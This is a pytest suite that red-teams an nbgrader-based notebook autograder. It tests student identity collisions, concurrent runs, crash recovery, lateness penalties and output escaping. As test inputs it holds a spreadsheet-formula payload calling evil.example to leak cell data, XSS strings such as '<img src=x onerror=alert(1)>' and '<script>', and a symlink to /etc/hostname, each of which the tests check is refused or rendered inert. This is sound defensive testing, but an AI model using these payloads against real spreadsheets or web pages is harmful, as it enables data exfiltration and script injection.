"""Red-team classes of the grader's connection to a term, each with cases of its own (not the ones issue 22
describes): identity, concurrent runs into one output folder, writes in the wrong order, nbgrader's layout
and its timestamps. Submissions here end before any notebook runs (missing, invalid), so the tests are fast;
what runs notebooks is covered in tests/test_nbgrader_term.py."""

from __future__ import annotations

import csv
import fcntl
import os
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from autograder.__main__ import main as grader_main
from autograder.feedback import folder_name
from autograder.results import csv_safe
from autograder.sandbox import bubblewrap_available

ROOT = Path(__file__).resolve().parents[1]
PS, NB = "ps1-attention", "ps1-attention.ipynb"

pytestmark = pytest.mark.skipif(not bubblewrap_available(), reason="bubblewrap (Debian package) is not installed")


def rows_of(out: Path) -> dict[str, dict[str, str]]:
    with open(out / "grades.csv", newline="", encoding="utf-8") as f:
        return {r["student"]: r for r in csv.DictReader(f)}


def unreadable(folder: Path, name: str) -> None:
    """A student whose notebook is not JSON: invalid-notebook, decided before anything runs."""
    (folder / name).mkdir(parents=True)
    (folder / name / NB).write_text("not a notebook")


def grade(subs: Path, out: Path, *extra: str) -> int:
    return grader_main(["grade", PS, str(subs), "--out", str(out), "--workers", "1", *extra])


# -- Identity ----------------------------------------------------------------------------------------------------

def test_a_folder_named_as_another_students_printed_name_gets_a_row_of_its_own(tmp_path):
    """README, "Grading": every entry of the folder ends in exactly one row. A folder literally named as the grader
    prints a non-UTF-8 name ("caf\ufffd [dafd66c0]") once overwrote that student's entry."""
    from autograder.intake import student_name

    subs, out = tmp_path / "subs", tmp_path / "out"
    raw = os.fsdecode(b"caf\xe9")
    unreadable(subs, raw)
    unreadable(subs, student_name(raw))
    unreadable(subs, student_name(student_name(raw)))
    assert grade(subs, out) == 0
    rows = rows_of(out)
    assert len(rows) == 3 and {r["status"] for r in rows.values()} == {"invalid-notebook"}
    assert len({r["id"] for r in rows.values()}) == 3


def test_ids_are_distinct_for_names_built_to_collide():
    names = ["a b", "a_b", folder_name("a b"), folder_name(folder_name("a b")), "x" * 200, "x" * 201,
             ".hidden", "_.hidden", "-" + "0" * 10, "0" * 10]
    ids = [folder_name(n) for n in names]
    assert len(set(ids)) == len(names), dict(zip(names, ids))
    assert [folder_name(n) for n in names] == ids  # stable
    assert folder_name("alice") == "alice"
    # csv: a name that starts with an apostrophe must not meet the escaped form of a formula-like name
    assert csv_safe("=sum") != csv_safe("'=sum") and csv_safe("'x") != csv_safe("x")


def test_a_formula_name_and_its_escaped_twin_get_two_rows_and_two_gradebook_students(tmp_path):
    subs, out, gradebook = tmp_path / "subs", tmp_path / "out", tmp_path / "course" / "gradebook.db"
    for name in ("=eve", "'=eve", "eve", folder_name("e ve"), "e ve"):
        unreadable(subs, name)
    assert grade(subs, out, "--gradebook", str(gradebook)) == 0
    rows = rows_of(out)
    assert len(rows) == 5 and len({r["id"] for r in rows.values()}) == 5
    with sqlite3.connect(gradebook) as db:
        students = [r[0] for r in db.execute("SELECT id FROM student")]
        submissions = db.execute("SELECT count(*) FROM submitted_assignment").fetchone()[0]
    assert len(set(students)) == 5 and submissions == 5
    assert len({p.name for p in (out / "feedback").iterdir()}) == 5


# -- Concurrent runs into one --out ----------------------------------------------------------------------------

def in_thread(*args: str) -> tuple[threading.Thread, list]:
    """A grader run in a thread of this process (it takes the output folder's lock through its own open file,
    so it waits for a lock held elsewhere, as another process's run would)."""
    codes: list = []
    thread = threading.Thread(target=lambda: codes.append(grader_main(["grade", PS, *args, "--workers", "1"])))
    thread.start()
    return thread, codes


def test_a_run_waits_for_the_lock_and_merges_what_another_run_wrote_meanwhile(tmp_path):
    subs, out = tmp_path / "subs", tmp_path / "out"
    unreadable(subs, "amy")
    unreadable(subs, "ben")
    assert grade(subs, out, "--only", "amy") == 0
    lock = open(out / ".autograder.lock", "a")
    fcntl.flock(lock, fcntl.LOCK_EX)  # another run is writing
    thread, codes = in_thread(str(subs), "--out", str(out), "--only", "ben")
    time.sleep(3)  # it has graded ben and now waits for the lock
    assert thread.is_alive()
    text = (out / "grades.csv").read_text().replace("amy,amy,", "zoe,zoe,")  # the other run's new row
    (out / "grades.csv").write_text((out / "grades.csv").read_text() + text.splitlines()[1] + "\n")
    fcntl.flock(lock, fcntl.LOCK_UN)
    lock.close()
    thread.join(timeout=120)
    assert codes == [0]
    assert sorted(rows_of(out)) == ["amy", "ben", "zoe"]


def test_four_simultaneous_runs_lose_no_row(tmp_path):
    subs, out = tmp_path / "subs", tmp_path / "out"
    names = ["p1", "p2", "p3", "p4"]
    for name in names:
        unreadable(subs, name)
    runs = [in_thread(str(subs), "--out", str(out), "--only", name) for name in names]
    for thread, _ in runs:
        thread.join(timeout=300)
    assert [codes for _, codes in runs] == [[0]] * 4
    assert sorted(rows_of(out)) == names
    assert sorted(p.name for p in (out / ".records").iterdir()) == [f"{n}.json" for n in names]


# -- Writes in the wrong order -----------------------------------------------------------------------------------

def test_a_run_killed_after_the_feedback_but_before_the_csv_is_redone_by_retry_failed(tmp_path, monkeypatch):
    import autograder.outputs as outputs

    subs, out, gradebook = tmp_path / "subs", tmp_path / "out", tmp_path / "course" / "gradebook.db"
    unreadable(subs, "kim")
    assert grade(subs, out, "--gradebook", str(gradebook)) == 0
    (subs / "kim" / NB).write_text("{}")  # kim resubmits; still unreadable, but with another detail
    unreadable(subs, "lee")

    def killed(*args, **kwargs):
        raise KeyboardInterrupt  # the run dies between the feedback pages and grades.csv

    monkeypatch.setattr(outputs, "write_rows", killed)
    with pytest.raises(KeyboardInterrupt):
        grade(subs, out, "--gradebook", str(gradebook))
    assert "lee" not in rows_of(out)  # grades.csv is the old one ...
    monkeypatch.undo()
    assert grade(subs, out, "--gradebook", str(gradebook), "--retry-failed") == 0  # ... until the retry
    rows = rows_of(out)
    assert sorted(rows) == ["kim", "lee"] and "no 'cells'" in rows["kim"]["detail"]
    assert not (out / ".autograder-pending.json").exists()
    with sqlite3.connect(gradebook) as db:
        assert sorted(r[0] for r in db.execute("SELECT id FROM student")) == ["kim", "lee"]
    assert "lee" in (out / "report.html").read_text()


def test_retry_failed_regrades_whom_a_lost_gradebook_no_longer_holds(tmp_path):
    subs, out, gradebook = tmp_path / "subs", tmp_path / "out", tmp_path / "gradebook.db"
    unreadable(subs, "uma")
    unreadable(subs, "val")
    assert grade(subs, out, "--gradebook", str(gradebook)) == 0
    csv_text = (out / "grades.csv").read_text()
    (out / "grades.csv").write_text(csv_text.replace("invalid-notebook", "graded"))  # as if both were graded
    gradebook.unlink()  # and the gradebook was lost (restored from an old backup, deleted by mistake)
    assert grade(subs, out, "--gradebook", str(gradebook), "--retry-failed") == 0
    assert {r["status"] for r in rows_of(out).values()} == {"invalid-notebook"}  # both were graded again
    with sqlite3.connect(gradebook) as db:
        assert sorted(r[0] for r in db.execute("SELECT student_id FROM submitted_assignment")) == ["uma", "val"]


def test_an_empty_gradebook_file_left_by_a_kill_becomes_a_whole_gradebook(tmp_path):
    subs, out, gradebook = tmp_path / "subs", tmp_path / "out", tmp_path / "gradebook.db"
    unreadable(subs, "ivy")
    gradebook.write_bytes(b"")
    assert grade(subs, out, "--gradebook", str(gradebook)) == 0
    with sqlite3.connect(gradebook) as db:
        assert db.execute("SELECT count(*) FROM alembic_version").fetchone()[0] == 1
        assert [r[0] for r in db.execute("SELECT id FROM student")] == ["ivy"]


@pytest.mark.parametrize("problem", ["folder", "not-sqlite", "parent-is-a-file"])
def test_an_unusable_gradebook_is_refused_before_anyone_is_graded(tmp_path, problem):
    subs, out = tmp_path / "subs", tmp_path / "out"
    unreadable(subs, "max")
    path = tmp_path / "gradebook.db"
    if problem == "folder":
        path.mkdir()
    elif problem == "not-sqlite":
        path.write_bytes(b"this is not a database" * 100)
    else:
        (tmp_path / "afile").write_text("x")
        path = tmp_path / "afile" / "gradebook.db"
    with pytest.raises(SystemExit, match="--gradebook"):
        grade(subs, out, "--gradebook", str(path))
    assert not (out / "grades.csv").exists()


# -- nbgrader's layout and its timestamps ------------------------------------------------------------------------

def test_nbgrader_layout_reads_only_the_assignment_and_never_follows_links(tmp_path):
    subs, out = tmp_path / "submitted", tmp_path / "out"
    (subs / "only-ps2" / "ps2-positions").mkdir(parents=True)
    (subs / "only-ps2" / "ps2-positions" / "ps2-positions.ipynb").write_text("{}")
    (subs / "only-ps2" / "stray.ipynb").write_text("{}")  # not in an assignment folder: not a ps1 submission
    (subs / "linked").mkdir()
    (subs / "linked" / PS).symlink_to(subs / "only-ps2" / "ps2-positions")
    unreadable(subs / "stamped", PS)
    (subs / "stamped" / PS / "timestamp.txt").write_text("the day after tomorrow")
    (subs / "secret").mkdir()
    unreadable(subs / "secret", PS)
    (subs / "secret" / PS / "timestamp.txt").symlink_to("/etc/hostname")
    unreadable(subs / "unstamped", PS)  # no timestamp.txt at all
    assert grade(subs, out, "--nbgrader-layout", "--due", "2026-01-01 00:00 UTC", "--late-penalty", "50%/day") == 0
    rows = rows_of(out)
    assert rows["only-ps2"]["status"] == "missing" and rows["only-ps2"]["manual_pending"] == "0"
    assert rows["linked"]["status"] == "invalid-notebook" and "symbolic link" in rows["linked"]["detail"]
    report = (out / "report.html").read_text()
    for name in ("stamped", "secret", "unstamped"):  # no readable time: taken as submitted when graded, so late
        assert rows[name]["submitted_at"] and float(rows[name]["late_seconds"]) > 86400
        assert rows[name]["penalty"] == rows[name]["max_score"]  # 50%/day, more than two days late
        assert "timestamp.txt" in rows[name]["notes"]
    assert report.count("taken as submitted when the grader read it") == 3


def test_lateness_policy_against_hand_computed_penalties():
    from datetime import datetime, timedelta

    from autograder.lateness import Policy, timing

    due = datetime(2026, 10, 1, 17, 0)
    daily = Policy.parse("10%/day", "3d")
    cases = {timedelta(seconds=-5): 0.0, timedelta(seconds=1): 2.0, timedelta(days=1): 2.0,
             timedelta(days=1, seconds=1): 4.0, timedelta(days=3): 6.0, timedelta(days=3, seconds=1): 20.0}
    for late, penalty in cases.items():
        assert timing(due + late, due, None, daily, 20).penalty == pytest.approx(penalty), late
    assert timing(due + timedelta(hours=30), due, timedelta(hours=30), daily, 20).late_seconds == 0
    assert Policy.parse("none").penalty(10**6, 20) == 0
    for bad in ("10 per day", "%/day", "-5%/day"):
        with pytest.raises(ValueError, match="late-penalty"):
            Policy.parse(bad)
    flagged = timing(None, due, None, daily, 20, late_flag=True)
    assert flagged.late_seconds is None and flagged.penalty == 0 and "late" in flagged.note


def test_canvas_files_keep_their_user_id_late_marker_and_roster_identity(tmp_path):
    """Canvas names a file by the student's display name; the gradebook's student with that Canvas user id is
    the one graded (not a second student), and `_late` is reported without inventing a time."""
    from autograder.course import build

    course, subs, out = tmp_path / "course", tmp_path / "subs", tmp_path / "out"
    roster = tmp_path / "roster.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n\"Smith, Ann\",1001,s1,asmith,A\n"
                      "\"Jones, Ben\",1002,s2,bjones,A\n\"Never, Ned\",1003,s3,nned,A\n")
    build(course, tmp_path / "exchange", roster=roster, names=[PS])
    subs.mkdir()
    (subs / "smithann_1001_5001_ps1-attention.ipynb").write_text("not json")
    (subs / "jonesben_late_1002_5002_ps1-attention.ipynb").write_text("not json")
    assert grade(subs, out, "--gradebook", str(course / "gradebook.db"), "--late-penalty", "50%/day") == 0
    rows = rows_of(out)
    assert {n: (r["id"], r["lms_id"], r["status"]) for n, r in rows.items()} == {
        "smithann": ("asmith", "1001", "invalid-notebook"), "jonesben": ("bjones", "1002", "invalid-notebook"),
        "nned": ("nned", "1003", "missing")}  # lms_id from the gradebook, without a file
    assert rows["jonesben"]["penalty"] == "0" and "marks this submission late" in rows["jonesben"]["notes"]
    with sqlite3.connect(course / "gradebook.db") as db:
        assert sorted(r[0] for r in db.execute("SELECT id FROM student")) == ["asmith", "bjones", "nned"]
        assert sorted(r[0] for r in db.execute("SELECT student_id FROM submitted_assignment")) == ["asmith", "bjones"]
    assert grader_main(["export", "--gradebook", str(course / "gradebook.db"), "--moodle",
                        "--to", str(tmp_path / "moodle.csv")]) == 0
    with open(tmp_path / "moodle.csv", newline="") as f:
        moodle = list(csv.reader(f))
    assert moodle[0] == ["Email address", "ID number", PS]
    assert sorted(r[1] for r in moodle[1:]) == ["asmith", "bjones", "nned"] and {r[2] for r in moodle[1:]} == {"0"}


def test_one_upload_shaped_like_nbgraders_layout_does_not_decide_how_the_batch_is_read(tmp_path):
    """README, "Grading": every entry of the folder ends in exactly one row or one printed warning. The layout is
    the instructor's choice (a course folder, or --nbgrader-layout), never a student's: here one upload holds
    ps1-attention/timestamp.txt, as nbgrader's submitted/ would, and the others are still read as uploads."""
    subs, out = tmp_path / "subs", tmp_path / "out"
    unreadable(subs / "mallory", PS)
    (subs / "mallory" / PS / "timestamp.txt").write_text("2026-01-01 00:00:00 UTC")
    for name in ("amy", "bo", "cy"):
        unreadable(subs, name)
    (subs / "dee.zip").write_bytes(b"not a zip")
    assert grade(subs, out) == 0
    rows = rows_of(out)
    assert {n: r["status"] for n, r in rows.items()} == {n: "invalid-notebook" for n in
                                                         ("mallory", "amy", "bo", "cy", "dee")}
    assert all(r["submitted_at"] == "" for r in rows.values())  # a student's file is never nbgrader's time


def test_an_lms_folder_with_a_subfolder_named_like_the_assignment_is_not_taken_for_nbgrader(tmp_path):
    subs, out = tmp_path / "subs", tmp_path / "out"
    unreadable(subs / "amy", PS)  # amy/ps1-attention/ps1-attention.ipynb: her own folder, no timestamp.txt
    unreadable(subs, "bo")  # bo/ps1-attention.ipynb
    assert grade(subs, out) == 0
    assert {n: r["status"] for n, r in rows_of(out).items()} == {"amy": "invalid-notebook", "bo": "invalid-notebook"}


def test_an_unreadable_timestamp_in_a_course_is_late_in_the_gradebook_too(tmp_path):
    """Issue 35: 8 days late, with timestamp.txt made unreadable, lost nothing. The time taken (the grading
    time) reaches the gradebook, so nbgrader's export takes the same penalty."""
    from autograder.course import build

    course = tmp_path / "course"
    build(course, tmp_path / "exchange", names=[PS], due=[f"{PS}=2026-01-01 00:00 UTC"])
    unreadable(course / "submitted" / "hid", PS)
    (course / "submitted" / "hid" / PS / "timestamp.txt").write_bytes(b"\xff\xfe" * 3000)  # too large, not UTF-8
    assert grader_main(["grade", PS, "--course", str(course), "--workers", "1", "--late-penalty", "10%/day"]) == 0
    row = rows_of(course / "grader" / PS)["hid"]
    assert row["penalty"] == row["max_score"] and "timestamp.txt" in row["notes"]
    with sqlite3.connect(course / "gradebook.db") as db:
        (stamp,) = db.execute("SELECT timestamp FROM submitted_assignment").fetchone()
        (penalty,) = db.execute("SELECT late_submission_penalty FROM submitted_notebook").fetchone()
    assert stamp and stamp > "2026-01-08" and penalty == float(row["max_score"])
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT / "lib"), str(ROOT)])}
    for step in ("generate_feedback", "release_feedback"):  # nbgrader's own steps read the time it was given
        done = subprocess.run([sys.executable, "-m", "nbgrader", step, PS], cwd=course, env=env,
                              capture_output=True, text=True)
        assert done.returncode == 0 and "ERROR" not in done.stderr, done.stderr[-2000:]
    assert len(list((tmp_path / "exchange" / "llmarch" / "feedback").glob("*.html"))) == 1


# -- Identity from names students choose (Canvas display names, exchange folder names) -------------------------------

def test_canvas_namesakes_are_two_students_keyed_by_their_user_ids(tmp_path, capsys):
    """Two students named John Smith: Canvas names both files johnsmith_<userid>_...; grouped by the name, one
    of them vanished and the other was graded from the wrong notebook."""
    from autograder.course import build

    course, subs, out = tmp_path / "course", tmp_path / "subs", tmp_path / "out"
    roster = tmp_path / "roster.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n\"Smith, John\",1001,s1,jsmith1,A\n"
                      "\"Smith, John\",1002,s2,jsmith2,A\n")
    build(course, tmp_path / "exchange", roster=roster, names=[PS])
    subs.mkdir()
    (subs / "johnsmith_1001_5009_ps1-attention.ipynb").write_text("not json")  # 1001's newest is the later id
    (subs / "johnsmith_1002_5005_ps1-attention.ipynb").write_text("{}")
    (subs / "johnsmith_1001_5001_ps1-attention.ipynb").write_text("{}")
    assert grade(subs, out, "--gradebook", str(course / "gradebook.db")) == 0
    rows = rows_of(out)
    assert len(rows) == 2 and len(set(rows)) == 2
    by_lms = {r["lms_id"]: r for r in rows.values()}
    assert {i: r["id"] for i, r in by_lms.items()} == {"1001": "jsmith1", "1002": "jsmith2"}
    assert "not valid JSON" in by_lms["1001"]["detail"]  # its own newest file ...
    assert "no 'cells'" in by_lms["1002"]["detail"]  # ... and the namesake's own, not the other's
    assert "5009" in by_lms["1001"]["notes"] and "5005" in by_lms["1002"]["notes"]
    assert "share this name" in capsys.readouterr().err
    with sqlite3.connect(course / "gradebook.db") as db:
        assert sorted(r[0] for r in db.execute("SELECT student_id FROM submitted_assignment")) == ["jsmith1", "jsmith2"]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_formula_as_nbgrader_id_never_reaches_a_spreadsheet(tmp_path, capsys):
    """nbgrader ids come from folder names in the exchange's inbound/: one named as a formula was written raw in
    grades.csv's id column and, through the gradebook, in `nbgrader export`. It is refused with a warning; ids
    the grader makes itself (folder_name) never start like a formula either."""
    from autograder.course import build

    course = tmp_path / "course"
    build(course, tmp_path / "exchange", names=[PS])
    for name in (FORMULA, "+cmd", "@SUM(A1)", "amy"):
        unreadable(course / "submitted" / name, PS)
    assert grader_main(["grade", PS, "--course", str(course), "--workers", "1"]) == 0
    err = capsys.readouterr().err
    assert err.count("a spreadsheet would read as a formula") == 3
    with open(course / "grader" / PS / "grades.csv", newline="") as f:
        table = list(csv.reader(f))
    assert [r[0] for r in table[1:]] == ["amy"]
    with sqlite3.connect(course / "gradebook.db") as db:  # what `nbgrader export` writes out
        assert [r[0] for r in db.execute("SELECT id FROM student")] == ["amy"]

    subs, out = tmp_path / "lms", tmp_path / "out"  # an LMS's folders: the id is folder_name's
    for name in ("-A1", "-2+3", "amy"):
        unreadable(subs, name)
    assert grade(subs, out, "--gradebook", str(tmp_path / "gb" / "gradebook.db")) == 0
    with open(out / "grades.csv", newline="") as f:
        cells = [cell for row in list(csv.reader(f))[1:] for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    with sqlite3.connect(tmp_path / "gb" / "gradebook.db") as db:
        ids = [r[0] for r in db.execute("SELECT id FROM student")]
    assert len(ids) == 3 and not [i for i in ids if i[:1] in ("=", "+", "-", "@")]


# -- What reaches nbgrader's notebooks and pages ----------------------------------------------------------------------

IMG = "<img src=x onerror=alert(1)>.ipynb"
STYLE = "<style>body{display:none}.ipynb"


def test_file_names_and_messages_are_inert_in_nbgraders_feedback_and_the_graders_page(tmp_path):
    """A detail that lists a student's file names landed as live HTML in the autograded notebook's status cell:
    generate_feedback's page ran an <img onerror> and a page-wide <style>. Rendered by nbgrader itself here."""
    from autograder.course import build

    course = tmp_path / "course"
    build(course, tmp_path / "exchange", names=[PS])
    folder = course / "submitted" / "mal" / PS
    folder.mkdir(parents=True)
    for name in (IMG, STYLE):  # two notebooks, none named as expected: the detail lists both names
        (folder / name).write_text("{}")
    (folder / "timestamp.txt").write_text("2026-01-01 00:00:00 UTC")
    (folder / "submission_secret.txt").write_text("s3cret")
    assert grader_main(["grade", PS, "--course", str(course), "--workers", "1"]) == 0
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT / "lib"), str(ROOT)])}
    done = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", PS], cwd=course, env=env,
                          capture_output=True, text=True)
    assert done.returncode == 0, done.stderr[-2000:]
    pages = {"nbgrader": (course / "feedback" / "mal" / PS / "ps1-attention.html").read_text(),
             "grader": (course / "grader" / PS / "feedback" / "mal" / "ps1-attention.html").read_text()}
    for where, page in pages.items():
        assert "&lt;img src=x onerror=alert(1)&gt;" in page, where  # the names are shown ...
        assert "<img src=x" not in page and "<style>body{display:none}" not in page, where  # ... inert


def test_nbgraders_bookkeeping_files_are_not_the_students_extra_files(tmp_path):
    from autograder.intake import load
    from autograder.term import nbgrader_submissions

    folder = tmp_path / "submitted" / "amy" / PS
    folder.mkdir(parents=True)
    (folder / NB).write_text("{}")
    for name in ("timestamp.txt", "submission_secret.txt", "helper.py"):
        (folder / name).write_text("2026-01-01 00:00:00 UTC")
    found, *_ = nbgrader_submissions(tmp_path / "submitted", PS)
    assert sorted(load(found["amy"], NB).siblings) == ["helper.py"]


def test_the_students_markdown_and_messages_are_inert_in_the_autograded_notebook():
    """Formgrader renders the autograded notebook in the instructor's Jupyter, where a script could act as the
    instructor: the student's written answer, own Markdown cells and exception messages are shown as text."""
    import nbformat
    from nbconvert import HTMLExporter

    from autograder.grade import SubmissionResult, release_template
    from autograder.nbfeedback import autograded_notebook
    from submissions import release, submission

    template, _ = release_template(PS)
    (manual,) = [i.grade_id for i in template.items if i.kind == "manual"]
    answer = "My answer: <img src=y onerror=alert(2)> and $x^2$"
    submitted = submission(PS, NB, answers={manual: answer})
    submitted.cells.append(nbformat.v4.new_markdown_cell("<style>body{display:none}</style> my own notes"))
    result = SubmissionResult("eve", "graded", answers={manual: answer},
                              cell_errors=["ValueError: <script>alert(3)</script>"])
    notebook = autograded_notebook(release(PS, NB), nbformat.writes(submitted).encode(), result, PS)
    page, _ = HTMLExporter().from_notebook_node(notebook)
    assert "&lt;img src=y onerror=alert(2)&gt;" in page and "&lt;script&gt;alert(3)" in page  # shown ...
    assert "my own notes" in page and "&lt;style&gt;body{display:none}" in page
    for live in ("<img src=y", "<script>alert(3)", "<style>body{display:none}"):  # ... never live
        assert live not in page


def test_a_zip_with_two_notebooks_of_the_expected_name_grades_one_chosen_by_path_and_says_so(tmp_path):
    """README, "Grading": every entry ends in exactly one row; which of two same-named notebooks counts must not
    depend on the order of the zip's entries, and the row says what was chosen (a red-team zip held a broken draft
    first and the final notebook second: the draft was graded, silently)."""
    import zipfile

    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    for name, order in (("first", ("z_draft", "a_final")), ("second", ("a_final", "z_draft"))):
        with zipfile.ZipFile(subs / f"{name}.zip", "w") as archive:
            for folder in order:
                archive.writestr(f"{folder}/{NB}", "draft" if folder == "z_draft" else "final")
    assert grade(subs, out) == 0
    rows = rows_of(out)
    for name in ("first", "second"):
        assert f"graded a_final/{NB} of 2 notebooks named {NB} (also: z_draft/{NB})" in rows[name]["notes"], rows[name]
